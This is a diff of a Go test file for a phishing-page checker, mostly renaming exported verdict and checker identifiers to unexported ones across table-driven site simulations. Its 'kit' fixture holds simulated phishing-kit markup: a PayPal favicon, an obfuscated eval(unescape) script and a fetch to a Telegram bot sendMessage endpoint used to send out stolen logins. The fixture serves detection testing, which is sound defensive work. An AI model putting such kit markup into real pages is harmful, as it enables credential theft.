@@ -66,16 +66,16 @@ var worlds = []struct {
 	{"good", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", markup("<title>Example</title><p>Hello"))
 		registered(w, "example.com", 3000)
-	}, nil, Clean, "", "No phishing signal found"},
+	}, nil, clean, "", "No phishing signal found"},
 	{"good with a login of its own", "https://example.com/", func(w *diagtest.World) {
 		w.HTTPS("example.com", login("Example", "/session"))
 		registered(w, "example.com", 3000)
-	}, []Source{source{id: "a"}}, Clean, "-phishing.page.password.foreign -phishing.page.brand_login",
+	}, []Source{source{id: "a"}}, clean, "-phishing.page.password.foreign -phishing.page.brand_login",
 		"No phishing signal found"},
 	{"a brand's own", "https://www.paypal.com/signin?returnUri=https%3A%2F%2Fwww.paypal.com%2Fmyaccount",
 		func(w *diagtest.World) {
 			w.HTTPS("www.paypal.com", login("Log in to PayPal", "https://www.paypal.com/signin"))
-		}, nil, Clean, "-phishing.url.keyword", "Host belongs to PayPal"},
+		}, nil, clean, "-phishing.url.keyword", "Host belongs to PayPal"},
 	{"copy on another domain", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("PayPal: log in", "https://collect.example/post.php"))
 	}, nil, Malicious, "phishing.page.brand_login phishing.page.password.foreign", "in the name of PayPal"},
@@ -83,19 +83,19 @@ var worlds = []struct {
 		w.HTTPS("shop.example", login("Netflix", "mailto:thief@example.net"))
 	}, nil, Suspicious, "phishing.page.password.nowhere phishing.page.brand_login", ""},
 	{"blog", "https://blog.example/", loginAt("blog.example", "Log In ‹ My Blog — WordPress", ""),
-		nil, Clean, "-phishing.page.brand_login", ""},
+		nil, clean, "-phishing.page.brand_login", ""},
 	{"software on its own host", "https://gitlab.firm.example/users/sign_in", loginAt("gitlab.firm.example",
 		"Sign in · GitLab", "/in"),
-		nil, Clean, "-phishing.page.brand_login", ""},
+		nil, clean, "-phishing.page.brand_login", ""},
 	{"login with a provider", "https://app.example/login", loginAt("app.example", "Sign in with Google | My App",
 		"https://accounts.google.com/o"),
-		nil, Clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
+		nil, clean, "-phishing.page.brand_login -phishing.page.password.foreign", ""},
 	{"login at another company", "https://bank.example/", loginAt("bank.example", "Our Bank",
 		"https://bank-it.example/portal"),
-		nil, Clean, "phishing.page.password.foreign", "Only weak"},
+		nil, clean, "phishing.page.password.foreign", "Only weak"},
 	{"forum with a login on each page", "https://forum.example/t/1", loginAt("forum.example",
 		"PayPal does not pay me | Forum", "/login"),
-		nil, Clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
+		nil, clean, "phishing.page.brand_title -phishing.page.brand_login", ""},
 	{"copy in other words", "https://shop.example/", loginAt("shop.example", "Log in to your PayPal account", "/x"),
 		nil, Suspicious, "phishing.page.brand_login", "in the name of PayPal"},
 	{"copy on a free host", "https://login-page.netlify.app/", loginAt("login-page.netlify.app", "Netflix", "/x"),
@@ -105,13 +105,13 @@ var worlds = []struct {
 		w.Site(diagtest.Site{Host: "my-club.com", Handler: markup("<title>My club</title><p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "my-club.com", 3)
-	}, nil, Clean, "phishing.tls.new phishing.registration.new", "Only weak"},
+	}, nil, clean, "phishing.tls.new phishing.registration.new", "Only weak"},
 	{"plain http login", "http://shop.example/", func(w *diagtest.World) {
 		w.HTTP("shop.example", login("Shop", "/in"))
-	}, nil, Clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
+	}, nil, clean, "phishing.page.password.insecure phishing.url.unencrypted", "Only weak"},
 	{"insecure form on https", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", login("Shop", "http://shop.example/in"))
-	}, nil, Clean, "phishing.page.password.insecure", ""},
+	}, nil, clean, "phishing.page.password.insecure", ""},
 	{"kit", "https://shop.example/wp-content/x/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>Sign in</title><link rel=icon href="https://www.paypal.com/favicon.ico">`+
 			`<script>eval(unescape("%64%6f"))</script><script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`+
@@ -123,15 +123,15 @@ var worlds = []struct {
 			"phishing.page.links phishing.url.program_directory", "chat or form service"},
 	{"news about a brand", "https://news.example/", func(w *diagtest.World) {
 		w.HTTPS("news.example", markup("<title>PayPal warns of phishing</title><p>text"))
-	}, nil, Clean, "phishing.page.brand_title", ""},
+	}, nil, clean, "phishing.page.brand_title", ""},
 	{"page of nothing but a frame", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", markup(`<title>x</title><iframe src="https://other.example/login"></iframe>`))
-	}, nil, Clean, "phishing.page.frame", ""},
+	}, nil, clean, "phishing.page.frame", ""},
 	{"links of its own", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example",
 			markup(`<title>x</title><link rel=icon href=/i.png><a href=/1>1</a><a href=/2>2</a><a href=/3>3</a>`+
 				`<a href=/4>4</a><a href=/5>5</a>`+fmt.Sprintf(password, "/x")))
-	}, nil, Clean, "-phishing.page.links", ""},
+	}, nil, clean, "-phishing.page.links", ""},
 	{"bad certificate and new domain", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"), Cert: diagtest.CertSelfSigned})
 		registered(w, "shop-info.com", 3)
@@ -141,30 +141,30 @@ var worlds = []struct {
 		w.Site(diagtest.Site{Host: "shop-info.com", Handler: markup("<p>hello"),
 			TLS: &tls.Config{Certificates: []tls.Certificate{cert}, Time: w.Now}})
 		registered(w, "shop-info.com", 90)
-	}, nil, Clean, "phishing.tls.new phishing.registration.young", ""},
+	}, nil, clean, "phishing.tls.new phishing.registration.young", ""},
 	{"not registered", "https://nothing-there.com/", func(w *diagtest.World) {
 		w.RDAP("rdap.verisign.com", nil)
 		w.Whois("whois.verisign-grs.com", map[string]string{"": "No match for domain \"NOTHING-THERE.COM\".\r\n"})
-	}, nil, Inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
-	{"dead host", "https://gone.example/", nil, nil, Inconclusive, "phishing.page.unknown", "no address"},
+	}, nil, inconclusive, "phishing.registration.missing phishing.page.unknown", "no address"},
+	{"dead host", "https://gone.example/", nil, nil, inconclusive, "phishing.page.unknown", "no address"},
 	{"dead host of a lookalike", "https://paypa1.com/", nil, nil, Suspicious,
 		"phishing.page.unknown phishing.lookalike.homoglyph", "looks like PayPal"},
 	{"certificate not yet valid", "https://shop-info.com/", func(w *diagtest.World) {
 		w.Site(diagtest.Site{Host: "shop-info.com", Cert: diagtest.CertNotYetValid, Handler: markup("<p>hello")})
 		registered(w, "shop-info.com", 900)
-	}, nil, Clean, "phishing.tls.invalid -phishing.tls.new", ""},
+	}, nil, clean, "phishing.tls.invalid -phishing.tls.new", ""},
 	{"redirect with a password", "https://shop.example/", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.RedirectHandler("https://user:secret@www.shop.example/", http.StatusFound))
-	}, nil, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, nil, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"private address", "https://inside.example/", func(w *diagtest.World) { w.Zone("inside.example. A 10.0.0.1\n") },
-		nil, Inconclusive, "phishing.page.unknown", "is not public"},
+		nil, inconclusive, "phishing.page.unknown", "is not public"},
 	{"name servers broken", "https://broken.example/", func(w *diagtest.World) {
 		w.Break("broken.example",
 			dns.RcodeServerFailure)
 	},
-		nil, Inconclusive, "phishing.page.unknown", "Page could not be examined"},
+		nil, inconclusive, "phishing.page.unknown", "Page could not be examined"},
 	{"refused", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", nil) },
-		nil, Inconclusive, "phishing.page.unknown", "the server answered 404"},
+		nil, inconclusive, "phishing.page.unknown", "the server answered 404"},
 	{"redirect to a lookalike", "https://short.example/x", func(w *diagtest.World) {
 		w.HTTPS("short.example", http.RedirectHandler("https://paypal-secure-login.com/", http.StatusFound))
 		w.HTTPS("paypal-secure-login.com", login("PayPal: log in", "/session"))
@@ -173,33 +173,33 @@ var worlds = []struct {
 		w.HTTPS("a.example", markup(`<meta http-equiv=refresh content="0;url=https://b.example/">`))
 		w.HTTPS("b.example", http.RedirectHandler("https://c.example/", http.StatusFound))
 		w.HTTPS("c.example", markup("<p>end"))
-	}, nil, Clean, "phishing.redirect.document phishing.redirect.sites", ""},
+	}, nil, clean, "phishing.redirect.document phishing.redirect.sites", ""},
 	{"loop", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.RedirectHandler("https://b.example/", http.StatusFound))
 		w.HTTPS("b.example", http.RedirectHandler("https://a.example/", http.StatusFound))
-	}, nil, Inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
+	}, nil, inconclusive, "phishing.page.unknown", "redirects lead nowhere"},
 	{"loop with a cookie", "https://a.example/", func(w *diagtest.World) {
 		w.HTTPS("a.example", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Set-Cookie", "seen=1")
 			http.Redirect(w, r, "/", http.StatusFound)
 		}))
-	}, nil, Inconclusive, "phishing.page.unknown", "need a cookie"},
+	}, nil, inconclusive, "phishing.page.unknown", "need a cookie"},
 	{"listed", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", markup("<p>x")) },
 		[]Source{source{id: "a", threats: []string{"phishing"}}, source{id: "b"}}, Malicious, "phishing.source.match",
 		"listed"},
 	{"source silent", "https://shop.example/", func(w *diagtest.World) { w.HTTPS("shop.example", markup("<p>x")) },
 		[]Source{source{id: "a", err: errors.New("refused")}, source{id: "b",
-			err: context.DeadlineExceeded}}, Inconclusive, "", "not every reputation source"},
+			err: context.DeadlineExceeded}}, inconclusive, "", "not every reputation source"},
 	{"no page", "https://shop.example/x.pdf", func(w *diagtest.World) {
 		w.HTTPS("shop.example", http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", "application/pdf")
 			io.WriteString(w, "%PDF")
 		}))
-	}, nil, Clean, "", ""},
+	}, nil, clean, "", ""},
 }
 
 // examine is Check without the report.
-func examine(t *testing.T, w *diagtest.World, c *Checker, req Request) (*evidence, *Report) {
+func examine(t *testing.T, w *diagtest.World, c *checker, req Request) (*evidence, *Report) {
 	t.Helper()
 	e, err := c.examine(t.Context(), w.Env(), req)
 	require.NoError(t, err)
@@ -216,7 +216,7 @@ func TestCheck(t *testing.T) {
 			if tt.build != nil {
 				tt.build(w)
 			}
-			e, r := examine(t, w, &Checker{Sources: tt.sources}, Request{URL: tt.url})
+			e, r := examine(t, w, &checker{Sources: tt.sources}, Request{URL: tt.url})
 			seen.Add(rules.Judge(e, nil))
 			hold(t, r)
 			require.Equal(t, tt.verdict, r.Verdict, "%d %v", r.RiskScore, r.Signals)
@@ -262,7 +262,7 @@ func hold(t testing.TB, r *Report) {
 	if r.Verdict == Suspicious || r.Verdict == Malicious {
 		require.NotEmpty(t, r.Signals)
 	}
-	if r.Verdict == Clean || r.Verdict == Inconclusive {
+	if r.Verdict == clean || r.Verdict == inconclusive {
 		require.Less(t, r.RiskScore, suspicious)
 	}
 }
@@ -271,7 +271,7 @@ func TestPartial(t *testing.T) {
 	w := diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup("<p>x"))
 	registered(w, "example.com", 100)
-	_, r := examine(t, w, &Checker{}, Request{URL: "example.com"})
+	_, r := examine(t, w, &checker{}, Request{URL: "example.com"})
 	require.False(t, r.Partial)
 	require.Equal(t, 100, *r.AgeDays)
 	require.True(t, r.TLS.Valid)
@@ -280,7 +280,7 @@ func TestPartial(t *testing.T) {
 
 	w = diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup("<p>x"))
-	_, r = examine(t, w, &Checker{}, Request{URL: "example.com"})
+	_, r = examine(t, w, &checker{}, Request{URL: "example.com"})
 	require.True(t, r.Partial, "no registry answered")
 	require.Nil(t, r.AgeDays)
 }
@@ -290,14 +290,14 @@ func TestSilence(t *testing.T) {
 	dead := &diag.Env{Resolver: closed{}}
 	_, err := Check(t.Context(), dead, Request{URL: "https://example.com/"})
 	require.ErrorIs(t, err, diag.ErrUnavailable)
-	r, err := (&Checker{Sources: []Source{source{id: "a"}}}).Check(t.Context(), dead, Request{URL: "https://example.com/"})
+	r, err := (&checker{Sources: []Source{source{id: "a"}}}).Check(t.Context(), dead, Request{URL: "https://example.com/"})
 	require.NoError(t, err, "a source of ours answered")
-	require.Equal(t, Inconclusive, r.Verdict)
+	require.Equal(t, inconclusive, r.Verdict)
 
 	w := diagtest.NewWorld(t)
-	for host, want := range map[string]Verdict{"example.com": Clean, "example-login.com": Inconclusive} {
+	for host, want := range map[string]Verdict{"example.com": clean, "example-login.com": inconclusive} {
 		w.HTTPS(host, markup("<p>x"))
-		_, r := examine(t, w, &Checker{}, Request{URL: host})
+		_, r := examine(t, w, &checker{}, Request{URL: host})
 		require.Equal(t, want, r.Verdict, host)
 		require.True(t, r.Partial)
 	}
@@ -312,7 +312,7 @@ func TestForms(t *testing.T) {
 	w := diagtest.NewWorld(t)
 	w.HTTPS("example.com", markup(`<form><input name=q></form>`+fmt.Sprintf(password, "http://other.example/x")+
 		fmt.Sprintf(password, "data:text/html,x")))
-	_, r := examine(t, w, &Checker{}, Request{URL: "https://example.com/"})
+	_, r := examine(t, w, &checker{}, Request{URL: "https://example.com/"})
 	require.Equal(t, []Form{
 		{ActionHost: "example.com"},
 		{ActionHost: "other.example", HasPassword: true, CrossOrigin: true, Insecure: true},
@@ -322,11 +322,11 @@ func TestForms(t *testing.T) {
 
 func TestSources(t *testing.T) {
 	w := diagtest.NewWorld(t)
-	c := &Checker{Sources: []Source{source{id: "a"}, source{id: "b", threats: []string{"malware"}}}}
+	c := &checker{Sources: []Source{source{id: "a"}, source{id: "b", threats: []string{"malware"}}}}
 	off := false
 	r, err := c.Check(t.Context(), w.Env(), Request{URL: "example.com", Fetch: &off})
 	require.NoError(t, err)
-	require.Equal(t, SourceDisabled, r.Sources[1].Status)
+	require.Equal(t, sourceDisabled, r.Sources[1].Status)
 	require.Zero(t, r.Coverage.SourcesQueried)
 	r, err = c.Check(t.Context(), w.Env(), Request{URL: "example.com", Sources: []string{"a"}})
 	require.NoError(t, err)
